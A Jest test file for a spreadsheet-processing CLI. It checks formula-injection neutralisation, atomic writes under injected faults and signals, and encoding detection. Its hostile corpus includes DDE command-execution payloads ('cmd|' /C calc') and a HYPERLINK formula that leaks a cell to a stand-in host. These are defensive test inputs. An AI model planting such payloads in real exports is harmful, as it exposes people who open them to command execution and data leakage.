/**
 * Hostile corpus, part two (issue 13, points 2, 4 and 5): what the command writes.
 * - Formula injection: text cells that a spreadsheet would run as formulas (=HYPERLINK(…), +, -, @,
 *   tab, CR) are neutralised in a CSV output (a leading '), numbers never; never a formula in .xlsx.
 * - Half-written files: every write path (CSV streamed, .xlsx streamed writer, whole workbook, the
 *   summary) made to fail at each point (a synchronous throw, a failure mid-write, the summary, the
 *   disk refusing a write, the output folder vanishing, SIGTERM/SIGINT during the write), through the
 *   test seam COHESION_TEST_FAULT (src/cli/faults.ts): no temporary file is left, and an existing
 *   output is left byte for byte as it was.
 * - Encodings: mixed UTF-8 (a stray byte that is not UTF-8) is read as UTF-8 with the bad bytes named
 *   by cell, never garbling the rest; an 8-bit file is detected (chardet); UTF-16 without a BOM is
 *   named as such; a CSV output always starts with a UTF-8 BOM.
 * Each run is a child process, timed and measured (scripts/measure-child.js); the figures are
 * written to test-artifacts/hostile-output.json.
 */
import { spawn } from "child_process";
import * as fs from "fs";
import * as path from "path";
import ExcelJS from "exceljs";
import { CLI, ROOT, ensureBuilt, readCsv, records, sha256, tempDir } from "../helpers/cli";
import { unzip, workbook } from "../helpers/hostileFiles";
import { writeAtomically } from "../../src/cli/atomic";
import { csvSafe } from "../../src/cli/cells";
import { legacyEncoding, sniffDelimited, utf16ByNuls } from "../../src/cli/delimited";

// eslint-disable-next-line @typescript-eslint/no-require-imports
const { measureChild } = require("../../scripts/measure-child.js");

interface Run {
  code: number | null;
  stdout: string;
  stderr: string;
  ms: number;
  peakRssMb: number;
}

let dir: string;
const figures: { case: string; ms: number; peakRssMb: number; code: number | null }[] = [];

beforeAll(() => {
  ensureBuilt();
  dir = tempDir("cohesion-hostile-out-");
}, 180_000);
afterAll(() => {
  fs.rmSync(dir, { recursive: true, force: true });
  fs.mkdirSync(path.join(ROOT, "test-artifacts"), { recursive: true });
  fs.writeFileSync(path.join(ROOT, "test-artifacts", "hostile-output.json"), JSON.stringify(figures, null, 2) + "\n");
});

async function run(label: string, args: string[], env: Record<string, string> = {}): Promise<Run> {
  const r = (await measureChild([CLI, ...args], { env: { COHESION_TEST_FAULT: "", ...env } })) as Run;
  figures.push({ case: label, ms: Math.round(r.ms), peakRssMb: r.peakRssMb, code: r.code });
  return r;
}

function file(name: string, content: string | Buffer): string {
  const p = path.join(dir, name);
  fs.mkdirSync(path.dirname(p), { recursive: true });
  fs.writeFileSync(p, content);
  return p;
}

const BOM = "\ufeff";

// ---------------------------------------------------------------------------------------------

describe("formula injection (OWASP CSV Injection)", () => {
  const hostile = [
    ["Formula", '=HYPERLINK("http://example.invalid/?x="&B2,"Click")'],
    ["Plus", "+cmd|' /C calc'!A0"],
    ["Minus", "-2+3+cmd|' /C calc'!A0"],
    ["At", "@SUM(1+1)*cmd|' /C calc'!A0"],
    ["Tab", "\t=1+1"],
    ["CR", "\r=1+1"],
  ];

  it("csvSafe: text starting with = + - @ tab CR gets a leading '; numbers (cells or text) and a lone - do not", () => {
    for (const [, t] of hostile) expect(csvSafe(t)).toEqual({ text: `'${t}`, changed: true });
    for (const v of [-3.2, "-3.2", "+5", "-1,500", "-1e5", "-", "Zoë", "", null, 0, "a=b"]) expect(csvSafe(v).changed).toBe(false);
    expect(csvSafe(-3.2).text).toBe("-3.2");
    expect(csvSafe({ richText: [{ text: "=1+2" }] })).toEqual({ text: "'=1+2", changed: true });
    expect(csvSafe({ formula: "A1", result: "=cached" })).toEqual({ text: "'=cached", changed: true });
  });

  it("CSV → CSV: every hostile name is neutralised, -3.2 stays a number; --csv-formulas keep writes them raw", async () => {
    const lines = ["Authority,NI 1 %,CI", ...hostile.map(([, t], i) => `"${t.replace(/"/g, '""')}",${59 + i},1`), "-3.2,-3.2,1", "+5,+5,1"];
    const input = file("injection.csv", lines.join("\n") + "\n");
    const out = path.join(dir, "injection.out.csv");
    const r = await run("injection CSV → CSV", ["apply", input, "--out", out]);
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/6 text cells starting with =, \+, -, @, a tab or a carriage return were written with a leading '/);
    const rows = records(readCsv(out));
    expect(rows.map((x) => x.Authority)).toEqual([...hostile.map(([, t]) => `'${t}`), "-3.2", "+5"]);
    expect(rows[6]["NI 1 %"]).toBe("-3.2"); // a number: unchanged
    expect(fs.readFileSync(out, "utf8")).toContain("\n-3.2,-3.2,1,");
    const keep = path.join(dir, "injection.keep.csv");
    const k = await run("injection CSV → CSV, --csv-formulas keep", ["apply", input, "--out", keep, "--csv-formulas", "keep"]);
    expect(k.code).toBe(0);
    expect(k.stdout).not.toMatch(/leading '/);
    expect(records(readCsv(keep)).map((x) => x.Authority)).toEqual([...hostile.map(([, t]) => t), "-3.2", "+5"]);
    const bad = await run("--csv-formulas bad value", ["apply", input, "--out", keep, "--csv-formulas", "strip"]);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/--csv-formulas/);
  });

  it(".xlsx → CSV: a text cell holding =HYPERLINK(…) is neutralised; a number cell -3.2 stays -3.2", async () => {
    const input = await workbook(dir, "injection.xlsx", (wb) => {
      const ws = wb.addWorksheet("Data");
      ws.addRow(["Authority", "NI 1 %", "CI"]);
      ws.addRow([hostile[0][1], 59, 2]);
      ws.addRow(["@evil", -3.2, 1]);
      ws.addRow(["Fine", 61, 1]);
      ws.getColumn(1).width = 30; // not plain: the whole-workbook path
    });
    const out = path.join(dir, "injection-xlsx.out.csv");
    const r = await run("injection .xlsx → CSV", ["apply", input, "--out", out]);
    expect(r.code).toBe(0);
    const csv = readCsv(out);
    expect(csv[1][0]).toBe(`'${hostile[0][1]}`);
    expect(csv[2].slice(0, 2)).toEqual(["'@evil", "-3.2"]);
    expect(csv[3][0]).toBe("Fine");
  });

  it("never a formula in .xlsx: a text cell starting with = is written as text (streamed writer and whole workbook)", async () => {
    const csvIn = file("injection-to-xlsx.csv", `Authority,NI 1 %,CI\n"${hostile[0][1].replace(/"/g, '""')}",59,2\n=1+2,60,1\n`);
    const xlsxIn = await workbook(dir, "injection-full.xlsx", (wb) => {
      const ws = wb.addWorksheet("Data");
      ws.addRow(["Authority", "NI 1 %", "CI"]);
      ws.addRow([hostile[0][1], 59, 2]);
      ws.addRow(["=1+2", 60, 1]);
      ws.getColumn(1).width = 30;
    });
    for (const [label, input] of [["CSV → .xlsx (streamed writer)", csvIn], [".xlsx → .xlsx (whole workbook)", xlsxIn]]) {
      const out = path.join(dir, `${path.basename(input)}.out.xlsx`);
      const r = await run(`injection ${label}`, ["apply", input, "--out", out]);
      expect(r.code).toBe(0);
      const wb = await new ExcelJS.Workbook().xlsx.readFile(out);
      const ws = wb.worksheets[0];
      expect([ws.getCell("A2").type, ws.getCell("A2").value]).toEqual([ExcelJS.ValueType.String, hostile[0][1]]);
      expect([ws.getCell("A3").type, ws.getCell("A3").value]).toEqual([ExcelJS.ValueType.String, "=1+2"]);
      const sheetXml = [...unzip(fs.readFileSync(out)).entries()].filter(([n]) => /^xl\/worksheets\/sheet\d+\.xml$/.test(n)).map(([, b]) => b.toString("utf8"));
      expect(sheetXml.join("")).not.toMatch(/<f[ >]/); // no formula element anywhere
    }
  });
});

// ---------------------------------------------------------------------------------------------

describe("never half-written: every write path, every failure", () => {
  let csvIn: string;
  let plainIn: string;
  let fullIn: string;
  const OLD = "an earlier output, which must survive a failed run\n";

  beforeAll(async () => {
    csvIn = file("atomic/in.csv", ["Authority,NI 1 %,CI", ...Array.from({ length: 3000 }, (_, i) => `Area ${i},${50 + (i % 30)},1`)].join("\n") + "\n");
    plainIn = await workbook(path.join(dir, "atomic"), "plain.xlsx", (wb) => {
      const ws = wb.addWorksheet("Data");
      ws.addRow(["Authority", "NI 1 %", "CI"]);
      for (let i = 0; i < 3000; i++) ws.addRow([`Area ${i}`, 50 + (i % 30), 1]);
    });
    fullIn = await workbook(path.join(dir, "atomic"), "full.xlsx", (wb) => {
      const ws = wb.addWorksheet("Data");
      ws.addRow(["Authority", "NI 1 %", "CI"]);
      for (let i = 0; i < 3000; i++) ws.addRow([`Area ${i}`, 50 + (i % 30), 1]);
      ws.getColumn(1).width = 20;
    });
  });

  // [label, input, output extension, the writer it takes]
  const paths = (): [string, string, string][] => [
    ["CSV streamed (CSV → CSV)", csvIn, "csv"],
    [".xlsx streamed writer (CSV → .xlsx)", csvIn, "xlsx"],
    [".xlsx streamed writer (plain .xlsx → .xlsx)", plainIn, "xlsx"],
    ["whole workbook (.xlsx → .xlsx)", fullIn, "xlsx"],
    ["CSV streamed (.xlsx → CSV)", fullIn, "csv"],
  ];
  const faults: [string, string, RegExp][] = [
    ["sync", "a synchronous throw", /cannot write .*: injected failure \(sync\)/],
    ["rows", "a failure mid-write", /cannot write .*: injected failure \(rows\)/],
    ["enospc", "the disk refusing a write", /cannot write .*: injected failure \(enospc\)/],
  ];

  /** A fresh output folder holding an earlier output; returns the output path. */
  function outFolder(name: string, ext: string): string {
    const out = path.join(dir, "atomic", name.replace(/[^a-z0-9]+/gi, "-"), `out.${ext}`);
    fs.mkdirSync(path.dirname(out), { recursive: true });
    fs.writeFileSync(out, OLD);
    return out;
  }
  function expectUntouched(out: string): void {
    expect(fs.readdirSync(path.dirname(out))).toEqual([path.basename(out)]); // no .tmp left
    expect(fs.readFileSync(out, "utf8")).toBe(OLD);
  }

  it.each(faults)("%s (%s): exit 2, one line, no temporary file, the earlier output as it was — on every path", async (kind, what, message) => {
    for (const [label, input, ext] of paths()) {
      const out = outFolder(`${kind}-${label}`, ext);
      const r = await run(`${what}: ${label}`, ["apply", input, "--out", out], { COHESION_TEST_FAULT: kind });
      expect([label, r.code]).toEqual([label, 2]);
      expect(r.stderr).toMatch(/^cohesion: [^\n]+\n$/);
      expect(r.stderr).toMatch(message);
      expectUntouched(out);
    }
  }, 120_000);

  it("a failure while building the summary (its sheet in an .xlsx): nothing written, on every .xlsx path", async () => {
    for (const [label, input, ext] of paths().filter(([, , e]) => e === "xlsx")) {
      const out = outFolder(`summary-${label}`, ext);
      const r = await run(`the summary failing: ${label}`, ["apply", input, "--out", out], { COHESION_TEST_FAULT: "summary" });
      expect([label, r.code, r.stderr]).toEqual([label, 2, expect.stringMatching(/^cohesion: cannot write .*: injected failure \(summary\)\n$/)]);
      expectUntouched(out);
    }
  }, 60_000);

  it("the output folder vanishing before the rename: exit 2, nothing recreated", async () => {
    for (const [label, input, ext] of paths()) {
      const out = outFolder(`vanish-${label}`, ext);
      const r = await run(`the output folder vanishing: ${label}`, ["apply", input, "--out", out], { COHESION_TEST_FAULT: "vanish" });
      expect([label, r.code]).toEqual([label, 2]);
      expect(r.stderr).toMatch(/^cohesion: cannot write .*(ENOENT|no such file)[^\n]*\n$/);
      expect(fs.existsSync(path.dirname(out))).toBe(false); // no temporary file recreated it
    }
  }, 60_000);

  it.each([
    ["SIGTERM", 143],
    ["SIGINT", 130],
  ] as const)("%s during the write: the temporary file is removed, the earlier output as it was — on every path", async (signal, code) => {
    for (const [label, input, ext] of paths()) {
      const out = outFolder(`${signal}-${label}`, ext);
      const t0 = Date.now();
      const child = spawn(process.execPath, [CLI, "apply", input, "--out", out], { env: { ...process.env, COHESION_TEST_FAULT: "stall" } });
      let stderr = "";
      const exited = new Promise<number | null>((resolve) => child.on("exit", (c, s) => resolve(c ?? (s ? -1 : null))));
      await new Promise<void>((resolve, reject) => {
        const timer = setTimeout(() => reject(new Error(`${label}: never stalled; stderr: ${stderr}`)), 30_000);
        child.stderr.on("data", (d) => {
          stderr += d;
          if (stderr.includes("cohesion-test: stalled")) {
            clearTimeout(timer);
            resolve();
          }
        });
      });
      // Mid-write: the temporary file is there.
      expect(fs.readdirSync(path.dirname(out)).filter((f) => f.endsWith(".tmp"))).toHaveLength(1);
      // Its peak memory so far (measure-child.js cannot report a process killed by a signal).
      const hwm = /VmHWM:\s+(\d+)/.exec(fs.existsSync(`/proc/${child.pid}/status`) ? fs.readFileSync(`/proc/${child.pid}/status`, "utf8") : "");
      child.kill(signal);
      expect([label, await exited]).toEqual([label, code]);
      figures.push({ case: `${signal} during the write: ${label}`, ms: Date.now() - t0, peakRssMb: hwm ? Math.round(Number(hwm[1]) / 1024) : NaN, code });
      expectUntouched(out);
    }
  }, 120_000);

  it("writeAtomically: a writer that throws synchronously, or whose stream opens late, leaves nothing", async () => {
    const out = outFolder("unit", "csv");
    await expect(
      writeAtomically(out, "out.csv", () => {
        throw new Error("boom");
      }),
    ).rejects.toThrow(/cannot write out\.csv: boom/);
    expectUntouched(out);
    // A stream opened by path after the failure (as ExcelJS's writeFile does) cannot create the file again.
    let late: fs.WriteStream | undefined;
    await expect(
      writeAtomically(out, "out.csv", async (temp) => {
        late = fs.createWriteStream(temp, { flags: "r+" });
        late.on("error", () => undefined);
        throw new Error("mid-write");
      }),
    ).rejects.toThrow(/mid-write/);
    await new Promise((r) => setTimeout(r, 100));
    expectUntouched(out);
    late?.destroy();
  });

  it("a successful run replaces the earlier output whole, and leaves no temporary file", async () => {
    for (const [label, input, ext] of paths()) {
      const out = outFolder(`ok-${label}`, ext);
      const r = await run(`no fault: ${label}`, ["apply", input, "--out", out]);
      expect([label, r.code]).toEqual([label, 0]);
      expect(fs.readdirSync(path.dirname(out))).toEqual([path.basename(out)]);
      expect(fs.readFileSync(out, "utf8")).not.toBe(OLD);
    }
  }, 60_000);
});

// ---------------------------------------------------------------------------------------------

describe("encodings: never garble valid UTF-8", () => {
  it("mixed: valid UTF-8 with one stray Windows-1252 byte is read as UTF-8; the bad byte is named by cell; Zoë stays Zoë", async () => {
    const input = file(
      "mixed.csv",
      Buffer.concat([Buffer.from("Authority,NI 1 %,CI\nZoë Town,59,2\nSão Paulo,60,1\nCaf", "utf8"), Buffer.from([0xe9]), Buffer.from(",61,1\nŁódź,62,1\n", "utf8")]),
    );
    const before = sha256(input);
    const out = path.join(dir, "mixed.out.csv");
    const r = await run("mixed UTF-8 + one Windows-1252 byte", ["apply", input, "--out", out]);
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/CSV, comma-separated, utf-8, with 1 byte sequence that is not UTF-8 \(mixed encodings\) replaced with \ufffd/);
    expect(r.stderr).toMatch(/mixed\.csv is UTF-8 but holds 1 byte sequence that is not \(mixed encodings\), in cell A4: read as UTF-8/);
    const text = fs.readFileSync(out, "utf8");
    expect(text.startsWith(BOM)).toBe(true);
    expect(records(readCsv(out)).map((x) => x.Authority)).toEqual(["Zoë Town", "São Paulo", "Caf\ufffd", "Łódź"]);
    expect(text).not.toMatch(/Ã|Å/); // nothing garbled
    expect(sha256(input)).toBe(before);
  });

  it("not UTF-8 at all (Windows-1252): detected, decoded right, and said on stderr", async () => {
    const input = file("cp1252.csv", Buffer.from("Authority,NI 1 %,CI\nZo\xeb Town,59,2\nCaf\xe9,60,1\nS\xe3o Paulo,61,1\n", "latin1"));
    const out = path.join(dir, "cp1252.out.csv");
    const r = await run("Windows-1252 CSV", ["apply", input, "--out", out]);
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/CSV, comma-separated, windows-1252 \(not UTF-8; detected by chardet\)/);
    expect(r.stderr).toMatch(/cp1252\.csv is not UTF-8: read as windows-1252/);
    expect(records(readCsv(out)).map((x) => x.Authority)).toEqual(["Zoë Town", "Café", "São Paulo"]);
  });

  it("not UTF-8, and not Western (Windows-1250, Polish place names): chardet's clear answer is taken", async () => {
    const cp1250: Record<string, number> = { ą: 0xb9, ę: 0xea, ł: 0xb3, ś: 0x9c, ć: 0xe6, ż: 0xbf, ź: 0x9f, ó: 0xf3, ń: 0xf1, Ł: 0xa3, Ś: 0x8c };
    const names = ["Łódź", "Wrocław", "Kraków", "Gdańsk", "Białystok", "Świętokrzyskie", "Zielona Góra", "Częstochowa"];
    const text = ["Authority,NI 1 %,CI", ...names.map((n, i) => `${n},${55 + i},1`)].join("\n") + "\n";
    const input = file("cp1250.csv", Buffer.from([...text].map((ch) => cp1250[ch] ?? ch.charCodeAt(0))));
    const out = path.join(dir, "cp1250.out.csv");
    const r = await run("Windows-1250 CSV", ["apply", input, "--out", out]);
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/CSV, comma-separated, windows-1250 \(not UTF-8; detected by chardet\)/);
    expect(records(readCsv(out)).map((x) => x.Authority)).toEqual(names);
  });

  it.each([
    ["utf-16le", "utf16le-nobom.csv"],
    ["utf-16be", "utf16be-nobom.csv"],
  ])("%s without a BOM is named as such (by its NUL bytes), not binary data, and read", async (enc, name) => {
    const text = "Authority,NI 1 %,CI\r\nZoë Town,59,2\r\nŁódź,72,1\r\n";
    const le = Buffer.from(text, "utf16le");
    const input = file(name, enc === "utf-16le" ? le : Buffer.from(le).swap16());
    const out = path.join(dir, `${name}.out.csv`);
    const r = await run(`${enc} without a BOM`, ["apply", input, "--out", out]);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain(`CSV, comma-separated, ${enc} without a byte-order mark (found by its NUL bytes)`);
    const rows = records(readCsv(out));
    expect(rows.map((x) => [x.Authority, x["ABG band"]])).toEqual([["Zoë Town", "2"], ["Łódź", "5"]]);
  });

  it("a CSV output always starts with a UTF-8 BOM (the en dash in notes, accented names), whatever the input", async () => {
    const input = file("ascii.csv", "Authority,NI 1 %,CI\nA,x,2\n");
    const out = path.join(dir, "ascii.out.csv");
    const r = await run("ASCII CSV input → CSV (BOM)", ["apply", input, "--out", out]);
    expect(r.code).toBe(0);
    const text = fs.readFileSync(out, "utf8");
    expect(text.startsWith(`${BOM}Authority,NI 1 %,CI,`)).toBe(true);
    expect(text).toContain("0–100"); // the note's en dash, which Excel reads right only with the BOM
  });

  it("units: the NUL-byte pattern, chardet's near-ties, and sniffing", async () => {
    expect(utf16ByNuls(Buffer.from("a,b\n1,2\n", "utf16le"))).toBe("utf-16le");
    expect(utf16ByNuls(Buffer.from("a,b\n1,2\n", "utf16le").swap16())).toBe("utf-16be");
    expect(utf16ByNuls(Buffer.from([0x41, 0x2c, 0x00, 0x01, 0x0a]))).toBeNull(); // binary stays binary
    expect(legacyEncoding(Buffer.from("Zo\xeb,Caf\xe9", "latin1"))).toBe("windows-1252");
    const p = file("sniff-mixed.csv", Buffer.concat([Buffer.from("a,b\nZoë,1\n", "utf8"), Buffer.from([0xff, 0x0a])]));
    expect(await sniffDelimited(p, "x")).toMatchObject({ encoding: "utf-8", invalid: 1 });
  });
});
